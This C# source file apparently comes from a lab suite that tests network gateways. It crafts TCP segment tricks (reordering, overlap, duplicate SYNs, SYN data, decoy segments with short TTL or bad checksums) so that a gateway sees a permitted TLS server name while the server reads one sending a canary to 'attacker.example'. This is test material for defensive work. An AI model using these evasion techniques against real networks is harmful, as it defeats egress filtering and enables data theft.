using Exeat.Wire;

namespace Exeat.Lab.Attacks.Streams;

/// <summary>A hello that a gateway and the server are to read differently, by what TCP allows (T3, T11), and one that replaces another (T10).</summary>
/// <remarks>Each <em>claims</em> the permitted name somewhere where the gateway may look, and <em>means</em> a name with the mark in it, which is what the server reads.</remarks>
internal static class SegmentTricks
{
    // The world's servers leave alone what comes from further away than this (StreamServer): as if it had died on the way.
    private const byte DiesOnTheWay = 6;
    private const byte Md5Option = 19, FastOpenOption = 34;
    private const uint Clock = 1_000_000, StaleClock = 1;
    private const int Seed = 7;

    /// <summary>A segment for each byte of the meant hello: at random, backwards, and in order.</summary>
    public static async Task<bool> ShuffledAsync(AttackTarget target)
    {
        using HandmadeStream stream = await HandmadeStream.ConnectAsync(target);
        byte[] meant = Meant(target);
        int[] places = [.. Enumerable.Range(0, meant.Length)], random = [.. places];
        new Random(Seed).Shuffle(random);
        foreach (int[] order in (int[][])[random, [.. places.Reverse()], places])
        {
            foreach (int at in order) stream.Send(new HandmadeSegment(at, [meant[at]]));
            stream.Listen(300, untilBytes: true);
            if (stream.Received.Count > 0 || stream.IsReset) break;
        }
        return stream.Received.Count > 0;
    }

    /// <summary>The tail of the meant hello first, the claimed one's over it, and then the head: servers keep what came first.</summary>
    public static async Task<bool> OverlapAsync(AttackTarget target)
    {
        (byte[] claimed, byte[] meant) = SameLength(target);
        return await SendAsync(target, new(60, meant[60..]), new(60, claimed[60..]), new(0, meant[..60]));
    }

    /// <summary>The claimed hello at a later number, and the meant one in front of it afterwards.</summary>
    public static Task<bool> LateAsync(AttackTarget target)
    {
        byte[] meant = Meant(target);
        return SendAsync(target, new(meant.Length, Claimed(target)), new(0, meant));
    }

    /// <summary>Two SYNs on one tuple: by the second one's number the claimed hello comes first, by the one that the server answered it lies before the stream.</summary>
    public static async Task<bool> TwoSynsAsync(AttackTarget target)
    {
        using HandmadeStream stream = await HandmadeStream.TakeAsync(target);
        byte[] claimed = Claimed(target);
        stream.Syn(0, [], []);
        stream.AwaitAnswer();
        stream.Syn(claimed.Length, [], []);
        stream.Listen(50);
        stream.Send(new HandmadeSegment(0, []) { Flags = TcpFlags.Ack });
        stream.Send(new HandmadeSegment(-claimed.Length, claimed));
        stream.Listen(100);
        stream.Send(new HandmadeSegment(0, Meant(target)));
        stream.Listen(1000, untilBytes: true);
        return stream.Received.Count > 0;
    }

    /// <summary>Data in the SYN, with a Fast Open cookie or without one; the mark is in it.</summary>
    public static async Task<bool> SynDataAsync(AttackTarget target, bool withCookie)
    {
        using HandmadeStream stream = await HandmadeStream.TakeAsync(target);
        byte[] cookie = withCookie ? [FastOpenOption, 10, 1, 2, 3, 4, 5, 6, 7, 8, 1, 1] : [];
        stream.Syn(0, Meant(target), cookie);
        stream.AwaitAnswer();
        stream.Listen(100);
        return true;
    }

    /// <summary>The meant hello in the handshake's last acknowledgement: there is never a segment without data.</summary>
    public static async Task<bool> LastAcknowledgementAsync(AttackTarget target)
    {
        using HandmadeStream stream = await HandmadeStream.TakeAsync(target);
        stream.Syn(0, [], []);
        stream.AwaitAnswer();
        stream.Send(new HandmadeSegment(0, Meant(target)));
        stream.Listen(1000, untilBytes: true);
        return stream.Received.Count > 0;
    }

    /// <summary>A claimed hello that the server does not take, for one of many reasons, and the meant one at the same numbers.</summary>
    public static async Task<bool> ReplaceAsync(AttackTarget target, string how)
    {
        bool clocked = how == "timestamp";
        using HandmadeStream stream = await HandmadeStream.ConnectAsync(target, clocked ? HandmadeStream.Clock(Clock) : null);
        (byte[] claimed, byte[] meant) = SameLength(target);
        var first = new HandmadeSegment(0, claimed);
        stream.Send(how switch
        {
            "ttl" => first with { HopLimit = DiesOnTheWay },
            "checksum" => first with { IsBroken = true },
            "md5" => first with { Options = [1, 1, Md5Option, 18, .. new byte[16]] },
            "timestamp" => first with { Options = HandmadeStream.Clock(StaleClock) },
            "flags" => first with { Flags = TcpFlags.Psh },
            "acknowledgement" => first with { Ahead = 1 << 20 },
            "reset" => first with { At = 0, Flags = TcpFlags.Rst | TcpFlags.Ack, Bytes = claimed, HopLimit = DiesOnTheWay },
            "fin" => first with { Flags = TcpFlags.Fin | TcpFlags.Ack, HopLimit = DiesOnTheWay },
            "urgent" => first with { Flags = TcpFlags.Urg | TcpFlags.Ack | TcpFlags.Psh, HopLimit = DiesOnTheWay },
            _ => throw new Topology.LabException($"nothing replaces a hello by {how}"),
        });
        stream.Listen(150);
        stream.Send(new HandmadeSegment(0, meant) { Options = clocked ? HandmadeStream.Clock(Clock + 2) : [] });
        stream.Listen(1000, untilBytes: true);
        return stream.Received.Count > 0;
    }

    /// <summary>The hello with the name that is permitted.</summary>
    public static byte[] Claimed(AttackTarget target) => new ClientHelloDraft { Name = target.Name }.WriteRecord();

    /// <summary>The hello with the name that carries the mark out.</summary>
    public static byte[] Meant(AttackTarget target) => new ClientHelloDraft { Name = MeantName(target) }.WriteRecord();

    /// <summary>The name that carries the mark out.</summary>
    public static string MeantName(AttackTarget target) => $"{target.Canary}.attacker.example";

    // Both of one length, so that one takes exactly the other's place; the shorter name's hello is filled up (RFC 7685).
    private static (byte[] Claimed, byte[] Meant) SameLength(AttackTarget target)
    {
        int more = MeantName(target).Length - target.Name.Length;
        byte[] claimed = new ClientHelloDraft { Name = target.Name, More = [(21, new byte[Math.Max(0, more)])] }.WriteRecord();
        byte[] meant = new ClientHelloDraft { Name = MeantName(target), More = [(21, new byte[Math.Max(0, -more)])] }.WriteRecord();
        return (claimed, meant);
    }

    private static async Task<bool> SendAsync(AttackTarget target, params HandmadeSegment[] segments)
    {
        using HandmadeStream stream = await HandmadeStream.ConnectAsync(target);
        foreach (HandmadeSegment segment in segments)
        {
            stream.Send(segment);
            stream.Listen(100);
        }
        stream.Listen(1000, untilBytes: true);
        return stream.Received.Count > 0;
    }
}
